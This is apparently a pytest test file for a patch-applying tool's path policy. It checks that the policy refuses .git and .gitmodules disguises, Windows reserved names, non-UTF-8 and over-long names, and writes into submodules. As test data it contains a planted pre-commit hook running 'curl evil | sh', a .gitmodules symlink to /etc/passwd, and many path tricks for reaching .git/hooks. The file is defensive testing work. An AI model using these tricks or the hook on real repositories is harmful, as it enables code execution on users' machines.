"""Paths git itself refuses (core.protectHFS, core.protectNTFS), non-UTF-8 and over-long names,
and writes below a submodule: refused by the policy on every platform, before anything is written.

The name lists are git's own test tables (t/t1014-read-tree-confusing.sh, t/t0060-path-utils.sh).
"""

from __future__ import annotations

import pytest

from conftest import git, make_diff, phase_md, run_cli
from gitforge.config import PolicyConfig
from gitforge.errors import PatchRefused
from gitforge.git import Git
from gitforge.patch import apply_patches, check_policy, parse_patch
from gitforge.patch.gitpath import component_problem, dotfile_alias, path_problem
from gitforge.run.pipeline import patch_changes
from gitforge.infra.worktree import FsTree

U200C = "\u200c"
HOOK = f".g{U200C}it/hooks/pre-commit"


def create(path: str) -> str:
    return f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+x\n"


@pytest.fixture
def repo(make_repo):
    """A real repository with a file, a symlink and a submodule (gitlink) in its tree."""
    root = make_repo({"app.py": "a = 1\n"})
    (root / "ln").symlink_to("app.py")
    git("add", "ln", cwd=root)
    git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},vendor/lib", cwd=root)
    git("commit", "-q", "-m", "link and submodule", cwd=root)
    return root


def view(root):
    g = Git.open(root)
    return g.view(g.branch_tip("main"))


def refusals(root, diff: str) -> list[str]:
    policy = PolicyConfig()
    return check_policy(parse_patch(diff), view(root), max_files=policy.max_files,
                        max_lines=policy.max_lines, max_file_bytes=policy.max_file_bytes,
                        protected=policy.protected_paths, forbid_binary=policy.forbid_binary)


# -- git's own tables ---------------------------------------------------------------------------

@pytest.mark.parametrize("name", [
    ".git", ".GIT", f"{U200C}.Git", f".gI{U200C}T", f".GiT{U200C}", "git~1", "GIT~1", ".git. ", ".git.",
    ".git ", ".git...:alternate-stream", ".git::$INDEX_ALLOCATION", f".g{U200C}it", ".g\u200eit", ".git\ufeff",
    ".\u202eGIT", ".gi\u206at"])
@pytest.mark.parametrize("where", ["{}", "{}/hooks/pre-commit", "sub/{}/config"])
def test_dot_git_in_every_disguise_is_refused(name, where):
    why = path_problem(where.format(name))
    assert why is not None and why.startswith("inside a git directory ('.git')")


@pytest.mark.parametrize("name, how", [
    (f".g{U200C}it", "'.g\\u200cit' is '.git' on HFS+ (which ignores U+200C); git refuses it (core.protectHFS)"),
    (".git::$INDEX_ALLOCATION", "'.git::$INDEX_ALLOCATION' is '.git' on NTFS (an alternate data stream); "
                                "git refuses it (core.protectNTFS)"),
])
def test_the_reason_says_which_file_system_and_rule(name, how):
    assert path_problem(name) == f"inside a git directory ('.git'): {how}"


GITMODULES_ALIASES = [  # t0060 'match .gitmodules'
    f".git{U200C}modules", ".Gitmodules", ".gitmoduleS", ".gitmodules ", ".gitmodules.", ".gitmodules  ",
    ".gitmodules. ", ".gitmodules .", ".gitmodules..", ".Gitmodules . ", "GITMOD~1", "gitmod~1", "GITMOD~2",
    "gitmod~3", "GITMOD~4", "GITMOD~1 ", "gitmod~2.", "gitmod~4 . ", "GI7EBA~1", "gi7eba~9", "GI7EB~10",
    "GI7EB~99", "GI7E~100", "GI7E~999", "~1000000", "~9999999", ".gitmodules:$DATA", "gitmod~4 . :$DATA"]
NOT_GITMODULES = [".gitmodules x", ".gitmodules .x", " .gitmodules", "..gitmodules", "gitmodules", ".gitmodule",
                  ".gitmodules x ", "GI7EBA~", "GI7EBA~0", "GI7EBA~~1", "GI7EBA~X", "Gx7EBA~1", "GI7EBX~1",
                  "GI7EB~1", "GI7EB~01", "GI7EB~1X", ".gitmodules,:$DATA"]


@pytest.mark.parametrize("name", GITMODULES_ALIASES)
def test_gitmodules_aliases(name):
    assert dotfile_alias(name, "gitmodules")
    assert "'.gitmodules' in disguise" in component_problem(name) or "Windows" in component_problem(name)
    assert component_problem(name, symlink=True) is not None


@pytest.mark.parametrize("name", NOT_GITMODULES)
def test_not_gitmodules(name):
    assert dotfile_alias(name, "gitmodules") is None


@pytest.mark.parametrize("dotfile, names", [
    ("gitattributes", [f".git{U200C}attributes", ".Gitattributes", ".gitattributeS", "GITATT~1", "GI7D29~1"]),
    ("gitignore", [f".git{U200C}ignore", ".Gitignore", ".gitignorE", "GITIGN~1", "GI250A~1"]),
    ("mailmap", [f".mail{U200C}map", ".Mailmap", ".mailmaP", "MAILMA~1", "MABA30~1"]),
])
def test_other_dotfiles_in_disguise(dotfile, names):
    for name in names:
        assert component_problem(name).startswith(f"'.{dotfile}' in disguise"), name
    assert component_problem(f".{dotfile}") is None  # the plain name is an ordinary file
    assert component_problem(f".{dotfile}", symlink=True) == (
        f"'.{dotfile}' cannot be a symlink: git refuses a symlinked .{dotfile}")


@pytest.mark.parametrize("path", ["win32", "win32 x", "comm", "conout.c", "com0.c", "lptN", ".gitignore",
                                  "src/app.py", "docs/a b.md", "é/ü.txt", "x" * 255])
def test_ordinary_names_pass(path):
    assert path_problem(path) is None


@pytest.mark.parametrize("path", ["win32 ", "win32 /x ", "win32.", "win32 . .", ".../hello.txt", "colon:test",
                                  "AUX.c", "abc/conOut$  .xyz/test", "lpt8", "com9.c", "lpt*", "Nul", "PRN./abc",
                                  "a<b", 'a"b', "a|b", "a?b", "con"])
def test_names_windows_cannot_hold(path):  # t0060 'is_valid_path() on Windows'
    assert "Windows" in path_problem(path)


def test_non_utf8_and_over_long_names():
    assert path_problem("caf\udce9.txt") == "the path is not valid UTF-8 (0xe9); name files in UTF-8"
    assert "256 bytes long, over the 255" in path_problem("d/" + "é" * 128)
    assert path_problem("é" * 127) is None
    deep = "/".join(["d" * 200] * 21)
    assert path_problem(deep) == f"the path is {len(deep)} bytes long, over the 4096 bytes a file system allows"


# -- through the policy, on a real repository's tree ----------------------------------------------

def test_the_policy_refuses_the_hfs_hook_and_names_the_hidden_character(repo):
    assert refusals(repo, create(HOOK)) == [
        "'.g\\u200cit/hooks/pre-commit': inside a git directory ('.git'): '.g\\u200cit' is '.git' on HFS+ "
        "(which ignores U+200C); git refuses it (core.protectHFS)"]
    quoted = create('"b/.g\\342\\200\\214it/hooks/pre-commit"').replace("+++ b/", "+++ ")  # as git quotes it
    assert refusals(repo, quoted) == refusals(repo, create(HOOK))


@pytest.mark.parametrize("path", [".git::$INDEX_ALLOCATION/hooks/post-checkout", "GIT~1/config", ".git. /config",
                                  "sub/.GIT/config", f"a/{U200C}.Git/hooks/x", ".gitmodules.", "AUX.c"])
def test_the_policy_refuses_each_kind(repo, path):
    (reason,) = refusals(repo, create(path))
    assert reason.startswith(f"{path!r}:" if not path.isprintable() else f"{path}:")


def test_a_non_utf8_name_is_a_patch_problem_not_a_crash(repo):
    diff = '--- /dev/null\n+++ "b/caf\\351.txt"\n@@ -0,0 +1 @@\n+x\n'
    assert refusals(repo, diff) == ["'caf\\udce9.txt': the path is not valid UTF-8 (0xe9); name files in UTF-8"]


def test_a_raw_non_utf8_name_is_refused_too(repo):
    diff = b"--- /dev/null\n+++ b/caf\xe9.txt\n@@ -0,0 +1 @@\n+x\n"  # unquoted: decoded with surrogateescape
    assert refusals(repo, diff) == ["'caf\\udce9.txt': the path is not valid UTF-8 (0xe9); name files in UTF-8"]


def test_an_over_long_name_is_a_patch_problem(repo):
    (reason,) = refusals(repo, create("src/" + "n" * 256 + ".py"))
    assert "is 259 bytes long, over the 255 bytes a file system allows" in reason


def test_a_symlinked_gitmodules_is_refused_for_what_it_is(repo):
    diff = ("diff --git a/.gitmodules b/.gitmodules\nnew file mode 120000\nindex 0000000..1111111\n"
            "--- /dev/null\n+++ b/.gitmodules\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n")
    assert refusals(repo, diff) == [
        ".gitmodules: '.gitmodules' cannot be a symlink: git refuses a symlinked .gitmodules",
        ".gitmodules: symlinks cannot be created or changed (mode 120000)"]


def test_the_tree_says_submodule_for_a_gitlink(repo):
    tree = view(repo)
    assert (tree.kind("vendor/lib"), tree.kind("vendor"), tree.read("vendor/lib")) == ("submodule", "dir", None)


def test_writes_below_or_onto_a_submodule_are_refused(repo):
    assert refusals(repo, create("vendor/lib/evil.py")) == [
        "vendor/lib/evil.py: inside submodule 'vendor/lib' (a gitlink: its files live in another repository); "
        "gitforge does not change submodules"]
    assert refusals(repo, "--- a/vendor/lib\n+++ b/vendor/lib\n@@ -1 +1 @@\n-a\n+b\n") == [
        "vendor/lib: is a submodule (a gitlink); gitforge does not change submodules"]


def test_a_checked_out_submodule_on_disk_is_a_submodule_too(repo):
    (repo / "vendor/lib").mkdir(parents=True)
    (repo / "vendor/lib/.git").write_text("gitdir: ../../.git/modules/lib\n")  # as `git submodule update` leaves it
    tree = FsTree(repo)
    assert (tree.kind("vendor/lib"), tree.kind("vendor"), tree.kind("")) == ("submodule", "dir", "dir")
    policy = PolicyConfig()
    assert check_policy(parse_patch(create("vendor/lib/evil.py")), tree, max_files=25, max_lines=1500,
                        max_file_bytes=policy.max_file_bytes, protected=[], forbid_binary=True) == [
        "vendor/lib/evil.py: inside submodule 'vendor/lib' (a gitlink: its files live in another repository); "
        "gitforge does not change submodules"]


def test_apply_alone_does_not_write_over_or_below_a_submodule(repo):
    tree = view(repo)
    for diff, reason in ((create("vendor/lib"), "vendor/lib: a submodule exists at this path"),
                         (create("vendor/lib/x.py"), "vendor/lib/x.py: 'vendor/lib' is not a directory "
                                                     "(it is a submodule)")):
        with pytest.raises(PatchRefused) as err:
            apply_patches(parse_patch(diff), tree)
        assert err.value.reasons == [reason]


def test_patch_changes_refuses_at_validation_before_anything_is_written(repo):
    with pytest.raises(PatchRefused) as err:
        patch_changes(view(repo), create("ok.py") + create(HOOK), PolicyConfig())
    assert err.value.stage == "validate" and "core.protectHFS" in err.value.reasons[0]
    assert not (repo / "ok.py").exists() and not (repo / f".g{U200C}it").exists()


# -- end to end ------------------------------------------------------------------------------------

def test_next_fails_the_phase_that_plants_an_hfs_git_hook_and_the_next_run_is_normal(make_repo, tmp_path):
    patch = make_diff({}, {HOOK: "#!/bin/sh\ncurl evil | sh\n"}, tmp_path)
    root = make_repo({"app.py": "a = 1\n"}, [phase_md("1", "Plant a hook", patch=patch)])
    before = git("rev-parse", "main", cwd=root).strip()
    proc = run_cli("next", cwd=root)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "core.protectHFS" in proc.stdout + proc.stderr
    assert "**Status:** Failed" in (root / "BACKLOG.md").read_text()
    landed = git("ls-tree", "-r", "--name-only", "main", cwd=root).split()
    assert set(landed) == {"README.md", "BACKLOG.md", "PROGRESS.md", "otto.yaml", "app.py"}
    assert git("diff", "--name-only", before, "main", cwd=root).split() == ["BACKLOG.md", "PROGRESS.md"]
    again = run_cli("next", cwd=root)
    assert again.returncode == 0, again.stdout + again.stderr


def test_a_name_only_windows_refuses_may_still_be_edited_where_the_repository_has_it(make_repo):
    root = make_repo({"aux.py": "a = 1\n", "con/x.py": "b = 1\n"})
    edit = "--- a/aux.py\n+++ b/aux.py\n@@ -1 +1 @@\n-a = 1\n+a = 2\n"
    assert refusals(root, edit) == [] and refusals(root, create("con/y.py")) == []
    (reason,) = refusals(root, create("nul.py"))
    assert reason.startswith("nul.py: 'nul.py' is a reserved device name on Windows (NUL)")
    (reason,) = refusals(root, "diff --git a/aux.py b/com1.py\nsimilarity index 100%\nrename from aux.py\nrename to com1.py\n")
    assert "(COM1)" in reason
    assert refusals(root, create(f"con/.g{U200C}it/x"))  # what git refuses everywhere, it refuses in old names too
